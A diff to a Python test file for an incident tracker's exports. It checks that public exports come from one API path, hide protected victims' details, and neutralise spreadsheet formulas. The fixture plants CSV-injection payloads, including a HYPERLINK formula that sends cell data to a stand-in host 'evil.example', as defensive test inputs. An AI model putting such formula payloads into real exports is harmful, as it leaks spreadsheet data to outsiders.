@@ -1,4 +1,5 @@
-"""Exports: the internal edition round-trips without loss; the public edition leaks nothing."""
+"""Exports: the internal edition round-trips without loss; the public edition is the public
+API's download (one public path) and leaks nothing; no cell of any CSV/XLSX runs as a formula."""
 
 import io
 import json
@@ -13,17 +14,19 @@ from tracker.cases.models import Incident
 from tracker.core.transaction import transaction
 from tracker.demo import generator as demo
 from tracker.extensions import db
-from tracker.public.redaction import public_incident_conditions
 from tracker.transfer import exports, queries
 
 CANARIES = ("CANARY-PROTECTED-NAME", "CANARY-PROTECTED-EN", "CANARY-NOTE", "CANARY-INTERNAL-SOURCE",
             "CANARY-CONFIDENTIAL-CASE", "CANARY-DRAFT-CASE", "CANARY-OUTLET", "15.123456", "44.654321")  # fmt: skip
 
 
-def _export(fmt: str, edition: str, filters=None) -> bytes:
+def _export(fmt: str, edition: str, filters=None, client=None) -> bytes:
+    if edition == "public":  # what anyone downloads from /transfer/export
+        response = client.get(f"/transfer/export?format={fmt}&edition=public", follow_redirects=True)
+        assert response.status_code == 200
+        return response.data
     out = io.BytesIO()
-    extra = public_incident_conditions() if edition == "public" else []
-    exports.write(queries.export_incidents(filters or {}, extra), fmt, edition, out)
+    exports.write(queries.export_incidents(filters or {}), fmt, out)
     return out.getvalue()
 
 
@@ -54,8 +57,8 @@ def canaries():
 
 
 @pytest.mark.parametrize("fmt", exports.FORMATS)
-def test_the_public_edition_contains_no_canary(canaries, fmt):
-    body = _export(fmt, "public")
+def test_the_public_edition_contains_no_canary(canaries, fmt, plain_client):
+    body = _export(fmt, "public", client=plain_client)
     text = body.decode("utf-8-sig") if fmt != "xlsx" else _xlsx_text(body)
     assert "Public case" in text and "Known Reporter" in text
     for canary in CANARIES:
@@ -75,8 +78,8 @@ def _xlsx_text(body: bytes) -> str:
     )
 
 
-def test_public_geojson_points_are_coarsened(canaries):
-    collection = json.loads(_export("geojson", "public"))
+def test_public_geojson_points_are_coarsened(canaries, plain_client):
+    collection = json.loads(_export("geojson", "public", client=plain_client))
     (feature,) = collection["features"]
     assert feature["properties"]["geo_precision"] == "admin1" and feature["properties"]["locality"] is None
     lon, lat = feature["geometry"]["coordinates"]
@@ -151,3 +154,99 @@ def test_the_audit_entry_of_an_imported_incident_describes_it():
 DATA_HEADER = (
     "incident_ref,title_ar,violation_types,date_start,country,admin1,victim_name_ar,victim_outcome\n"
 )
+
+
+# --- one public path, no formulas (issue 11, finding 2) -------------------------------------------
+
+FORMULA = '=HYPERLINK("https://evil.example/?"&A2,"open")'
+
+
+@pytest.fixture
+def described_protected_victim():
+    """A published case with a protected victim whose gender, profession and media type are
+    recorded, and a hostile title and outlet."""
+    outlet = case_ops.people_ops.create_outlet({"name_ar": "@SUM(1+1)", "media_type": "tv"}, factories.SYSTEM)
+    journalist = factories.create_journalist(name_ar="اسم محمي", name_en="Protected Name", gender="female",
+                                             profession="photographer", media_type="radio",
+                                             outlet_id=outlet.id)  # fmt: skip
+    incident = factories.create_incident(
+        title_en=FORMULA,
+        title_ar="+قتل",
+        summary_en="-2+3",
+        summary_ar="\tخطر",
+        victims=[{"journalist_id": journalist.id, "outcome": "detained", "is_identity_protected": True}],
+    )
+    return _publish(incident)
+
+
+@pytest.mark.parametrize("fmt", ["csv", "json", "geojson", "xlsx"])
+def test_public_export_is_byte_for_byte_the_public_api_download(
+    described_protected_victim, plain_client, fmt
+):
+    response = plain_client.get(f"/transfer/export?format={fmt}&edition=public&year=2024&country=YE",
+                                follow_redirects=True)  # fmt: skip
+    assert response.status_code == 200
+    transfer = response.data
+    response = plain_client.get(f"/api/public/v1/incidents.{fmt}?year_from=2024&year_to=2024&country=YE")
+    assert response.status_code == 200
+    if fmt != "xlsx":  # an XLSX carries its build time
+        assert transfer == response.data and b"HYPERLINK" in transfer
+    else:
+        assert _xlsx_text(transfer) == _xlsx_text(response.data)
+
+
+@pytest.mark.parametrize("fmt", ["csv", "json", "xlsx"])
+def test_public_export_does_not_describe_a_protected_victim(described_protected_victim, plain_client, fmt):
+    body = plain_client.get(f"/transfer/export?format={fmt}&edition=public", follow_redirects=True).data
+    text = _xlsx_text(body) if fmt == "xlsx" else body.decode("utf-8-sig")
+    for detail in ("Protected Name", "اسم محمي", "female", "photographer", "radio", "public_geo_precision"):
+        assert detail not in text, detail
+
+
+def _csv_cells(body: bytes) -> list[str]:
+    import csv
+
+    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]
+
+
+def _xlsx_cells(body: bytes) -> list:
+    from openpyxl import load_workbook
+
+    sheet = load_workbook(io.BytesIO(body)).worksheets[0]
+    return [cell for row in sheet.iter_rows() for cell in row]
+
+
+def _no_formula(cells) -> None:
+    texts = [c for c in cells if isinstance(c, str) and c]
+    assert any(t.startswith("'=HYPERLINK") for t in texts)
+    for text in texts:
+        assert not text.startswith(("=", "+", "@", "\t", "\r")), text
+        assert not text.startswith("-") or _number(text), text
+
+
+def _number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+@pytest.mark.parametrize("edition", ["internal", "public"])
+def test_no_csv_cell_runs_as_a_formula(described_protected_victim, plain_client, edition):
+    _no_formula(_csv_cells(_export("csv", edition, client=plain_client)))
+
+
+@pytest.mark.parametrize("edition", ["internal", "public"])
+def test_no_xlsx_cell_is_a_formula(described_protected_victim, plain_client, edition):
+    cells = _xlsx_cells(_export("xlsx", edition, client=plain_client))
+    assert not [c.value for c in cells if c.data_type == "f"]
+    _no_formula([c.value for c in cells])
+
+
+def test_a_neutralised_cell_imports_back_as_it_was(described_protected_victim):
+    body = _export("csv", "internal")
+    report = check(body, "export.csv")
+    assert report.ok, report.errors[:5]
+    (record,) = report.records
+    assert record.data["title_en"] == FORMULA and record.data["summary_en"] == "-2+3"
